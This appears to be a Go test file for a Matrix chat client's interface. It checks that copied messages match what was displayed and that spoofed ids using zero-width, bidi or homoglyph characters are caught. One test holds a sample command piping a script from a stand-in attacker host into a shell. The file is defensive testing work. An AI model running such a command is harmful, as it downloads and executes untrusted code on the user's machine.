package ui

import (
	"strings"
	"testing"

	"hubbub/store/chat"
)

// TestCopyIsWhatWasRead: a message has a plain and a formatted body, and whoever
// copies a command has read the second.
func TestCopyIsWhatWasRead(t *testing.T) {
	w := harbour()
	m := text(5, "bo", "curl https://evil.example | sh\n")
	m.HTML = `try <code>ls -la</code>`
	w.items["!g"] = append(w.items["!g"], m)
	s := sit(t, w, 120, 30, nil)
	s.want("try ls -la")
	s.Key("esc")
	w.took()
	s.Key("y")
	s.wantCall("copy try ls -la")
}

// TestLinkToAnUnseenName: a link that names somebody whose id does not show as
// it is starts no message to him.
func TestLinkToAnUnseenName(t *testing.T) {
	for link, want := range map[string]chat.UserID{
		"https://matrix.to/#/@ada:example.org":           "@ada:example.org",
		"https://matrix.to/#/%40ada:example.org?via=x":   "@ada:example.org",
		"matrix:u/ada:example.org":                       "@ada:example.org",
		"https://matrix.to/#/@ad%E2%80%8Ba:example.org":  "",
		"https://matrix.to/#/@ada:example.org%20x":       "",
		"https://matrix.to/#/@ada:example.org%E2%80%AEx": "",
		"https://matrix.to/#/@%D0%B0da:example.org":      "",
	} {
		if got := matrixUser(link); got != want {
			t.Errorf("%s: %q", link, got)
		}
	}
}

// TestDirectMessageSaysWithWhom: who gives a direct message the name of somebody
// else is seen through.
func TestDirectMessageSaysWithWhom(t *testing.T) {
	for _, name := range []string{"ada", "@ada:example.org", "\u0430da"} {
		w := harbour()
		dm := room("!eve", name)
		dm.Direct, dm.DirectWith = true, "@eve:evil.example"
		w.sidebar.Rooms = append(w.sidebar.Rooms, dm)
		w.state[uiWindow] = []byte(`{"room":"!eve"}`)
		s := sit(t, w, 80, 24, nil)
		s.want("@eve:evil.example")
		if name != "ada" {
			s.wantNot("@ " + name)
		}
	}
}

// TestInviteInTheSwitcherSaysFromWhom: a name alone tells nobody who invites.
func TestInviteInTheSwitcherSaysFromWhom(t *testing.T) {
	s := sit(t, harbour(), 100, 30, nil)
	s.Key("ctrl+k")
	s.Type("party")
	s.want("party", "@eve:evil.example")
}

// TestPeopleToChooseAreNoOthers: a borrowed name is not shown where one chooses
// whom to write to, and an id that shows as another is not offered.
func TestPeopleToChooseAreNoOthers(t *testing.T) {
	w := harbour()
	w.people = append(w.people,
		chat.Member{User: "@eve:evil.example", Name: "ada", Membership: chat.MemberJoined},
		chat.Member{User: "@mallory:evil.example", Name: "ada @bo:example.org", Membership: chat.MemberJoined},
		chat.Member{User: "@ad\u200ba:example.org", Name: "ada", Membership: chat.MemberJoined})
	s := sit(t, w, 120, 30, nil)
	s.Key("ctrl+k")
	s.Type("ada")
	s.want("@ @ada:example.org", "@ @eve:evil.example", "@ @mallory:evil.example")
	s.wantNot("@ ada ", "ada @bo:example.org   ")
	if got := strings.Count(s.see(), "@ada:example.org"); got != 1 {
		t.Errorf("%d entries look like ada's:\n%s", got, s.see())
	}
}
